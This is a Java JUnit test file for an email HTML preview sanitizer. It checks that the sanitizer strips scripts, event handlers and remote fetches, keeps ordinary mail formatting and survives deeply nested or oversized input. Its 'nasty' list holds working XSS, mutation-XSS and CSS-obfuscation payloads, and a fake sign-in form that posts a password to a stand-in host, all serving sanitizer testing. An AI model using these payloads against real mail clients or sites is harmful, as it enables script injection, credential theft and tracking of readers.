package io.sendyard.mime;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlPreviewTests {

    private static final String PIXEL =
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

    static Stream<String> nasty() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<script src=https://evil.example/x.js></script>",
                "<img src=x onerror=alert(1)>",
                "<img src='https://evil.example/p.gif'>",
                "<img src='//evil.example/p.gif'>",
                "<img src='ht\ntps://evil.example/p.gif'>",
                "<img srcset='https://evil.example/p.gif 1x' src=''>",
                "<img src='/email/servers'>",
                "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<img src='javascript:alert(1)'>",
                "<img lowsrc='https://evil.example/p.gif' dynsrc='https://evil.example/p.avi'>",
                "<picture><source srcset='https://evil.example/p.webp'><img src=x></picture>",
                "<svg onload=alert(1)><image href='https://evil.example/p.gif'/><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
                "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
                "<applet code=x></applet><frameset><frame src='https://evil.example'></frameset>",
                "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
                "<input type=image src='https://evil.example/p.gif'><isindex action=x>",
                "<base href='https://evil.example/'><a href='x'>y</a>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<meta http-equiv=Content-Security-Policy content='default-src *'>",
                "<link rel=stylesheet href='https://evil.example/x.css'><link rel=prefetch href='https://evil.example/'>",
                "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/p.gif)}</style>",
                "<style>@font-face{font-family:x;src:url('https://evil.example/f.woff')}</style>",
                "<style>p{background:u\\72l(https://evil.example/p.gif)}</style>",
                "<style>p{background:url(/**/https://evil.example/p.gif)}</style>",
                "<style>p{background:image-set('https://evil.example/p.gif' 1x)}</style>",
                "<p style=\"background:url('https://evil.example/p.gif')\">x</p>",
                "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.example)'>x</p>",
                "<p style='background:URL(//evil.example/p.gif'>x</p>",
                "<table background='https://evil.example/p.gif'><tr><td background='//evil.example/q.gif'>x</td></tr></table>",
                "<body background='https://evil.example/p.gif' onload=alert(1) style='background:url(https://evil.example/p.gif)'>x</body>",
                "<a href='javascript:alert(1)' target=_top ping='https://evil.example'>x</a>",
                "<a href='https://evil.example' onclick=alert(1)>x</a>",
                "<video src='https://evil.example/x.mp4' poster='https://evil.example/p.gif' autoplay></video>",
                "<audio src='https://evil.example/x.mp3'><track src='https://evil.example/t.vtt'></audio>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp>",
                "<!--[if mso]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
                "<title></title><script>alert(1)</script></title>",
                "<style></style ><img src=x onerror=alert(1)></style>",
                "<p id='x' contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee><dialog open>x</dialog><portal src='https://evil.example'></portal>",
                "<blockquote cite='https://evil.example'>x</blockquote><q cite='javascript:x'>y</q>");
    }

    @Test
    void joinsNothingByWhatItTakesOut() {
        var html = "<p style='background:urbehavior:l(//evil.example/p.gif)'>x</p>";

        assertThat(HtmlPreview.of(parts(html), false).html()).doesNotContain("url(");
    }

    @ParameterizedTest
    @MethodSource("nasty")
    void leavesNothingThatRunsOrFetches(String html) {
        var clean = HtmlPreview.of(parts(html), false).html();
        var page = Jsoup.parse(clean);

        assertThat(
                        page.select(
                                "script, iframe, frame, object, embed, applet, form, input, button, base, link, svg, math,"
                                        + " video, audio, source, track, template, noscript, dialog, meta[http-equiv], [background], [srcset],"
                                        + " [href], [action], [ping], [target], [cite], [autofocus], [contenteditable], [poster]"))
                .isEmpty();
        assertThat(page.getAllElements())
                .allSatisfy(element ->
                        assertThat(element.attributes().asList())
                                .noneMatch(one -> one.getKey().startsWith("on")));
        assertThat(page.select("img[src]"))
                .allMatch(picture -> picture.attr("src").startsWith("data:image/p"));
        var styles =
                String.join("\n", page.select("style").stream().map(s -> s.data()).toList())
                        .toLowerCase(Locale.ROOT);
        assertThat(styles + page.select("[style]").eachAttr("style"))
                .doesNotContain("evil", "expression(", "behavior", "binding", "@import", "\\");
    }

    @Test
    void keepsWhatMailLooksLike() {
        var clean =
                HtmlPreview.of(
                                parts(
                                        "<html><head><style>.a{color:red}</style></head><body bgcolor='#eee' style='margin:0'>"
                                                + "<table width=600 cellpadding=4 bgcolor=white><tr><td class=a align=center style='padding:4px'>"
                                                + "<font color=blue size=2>Hi</font> <a href='https://acme.example/x'>there</a></td></tr></table></body></html>"),
                                false)
                        .html();

        assertThat(clean)
                .contains(
                        ".a{color:red}",
                        "bgcolor=\"#eee\"",
                        "style=\"margin:0\"",
                        "cellpadding=\"4\"",
                        "style=\"padding:4px\"",
                        "<font",
                        "title=\"https://acme.example/x\"")
                .doesNotContain("href");
    }

    @Test
    void showsThePicturesOfTheMessageItself() {
        var preview =
                HtmlPreview.of(
                        parts("<img src='cid:logo@acme' alt=Logo><img src='cid:none' alt=Gone>"),
                        false);

        assertThat(preview.html())
                .contains("src=\"data:image/png;base64," + PIXEL + "\"")
                .contains("<span data-blocked=\"\">Gone</span>");
        assertThat(preview.remotePictures()).isZero();
    }

    @Test
    void countsRemotePicturesAndLeavesThemInOnRequestOnly() {
        var parts =
                parts(
                        "<img src='https://a.example/1.png'><img src='HTTP://a.example/2.png'><img src='//a.example/3.png'>");

        assertThat(HtmlPreview.of(parts, false).remotePictures()).isEqualTo(3);
        assertThat(HtmlPreview.of(parts, false).html()).doesNotContain("a.example");
        assertThat(HtmlPreview.of(parts, true).html())
                .contains(
                        "https://a.example/1.png", "https://a.example/2.png", "//a.example/3.png");
    }

    @ParameterizedTest
    @ValueSource(ints = {10, 5_000, 100_000})
    void isNotBroughtDownByDepth(int depth) {
        var html = "<div>".repeat(depth) + "deep" + "</div>".repeat(depth);

        assertThat(HtmlPreview.of(parts(html), false).html()).contains("</html>");
    }

    @Test
    void isNotBroughtDownByTextThatLooksLikeItNeverEnds() {
        var css =
                "<style>"
                        + "url(".repeat(200_000)
                        + "/*".repeat(200_000)
                        + "</style><p style='"
                        + "url(".repeat(50_000)
                        + "'>x";

        assertThat(HtmlPreview.of(parts(css), false).html()).contains("</html>");
    }

    static Stream<String> enormous() {
        var fonts =
                IntStream.range(0, 12)
                        .mapToObj(i ->
                                "<font title='%s'>"
                                        .formatted("%d".formatted(i % 10).repeat(40_000)))
                        .collect(Collectors.joining());
        return Stream.of(
                "<b>".repeat(600_000),
                "<p>".repeat(8_001),
                "<table><tr><td>".repeat(100_000),
                "x".repeat(600_001),
                // The parser repeats what is open in each paragraph.
                "<p>" + fonts + "x</p>" + "<p>x</p>".repeat(2_000));
    }

    @ParameterizedTest
    @MethodSource("enormous")
    void saysThatItIsTooLarge(String html) {
        var preview = HtmlPreview.of(parts(html), false);

        assertThat(preview.html())
                .hasSizeLessThan(2_000)
                .contains("This HTML is too large to be shown here.");
        assertThat(preview.remotePictures()).isZero();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<p>", "<b>", "<font color=red><p>x", "<table><tr><td>"})
    void showsAllThatIsNot(String part) {
        var html = part.repeat(7_000 / (int) part.chars().filter(c -> c == '<').count());

        assertThat(HtmlPreview.of(parts(html), false).html()).doesNotContain("too large");
    }

    private static MessageParts parts(String html) {
        var message =
                """
                From: a@acme.example
                Subject: Nasty
                MIME-Version: 1.0
                Content-Type: multipart/related; boundary=b

                --b
                Content-Type: text/html; charset=utf-8

                %s

                --b
                Content-Type: image/png
                Content-ID: <logo@acme>
                Content-Transfer-Encoding: base64

                %s
                --b--
                """
                        .formatted(html, PIXEL);
        return MessageParts.of(message.replace("\n", "\r\n").getBytes(StandardCharsets.UTF_8));
    }
}
